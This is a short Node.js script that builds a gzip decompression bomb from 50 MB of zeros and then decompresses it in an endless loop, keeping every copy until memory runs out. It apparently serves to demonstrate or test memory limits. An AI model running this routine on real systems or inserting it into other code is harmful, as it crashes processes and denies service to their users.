const { gunzipSync, gzipSync } = require("node:zlib");
const bomb = gzipSync(Buffer.alloc(50_000_000));
for (const kept = []; ; ) kept.push(gunzipSync(bomb));
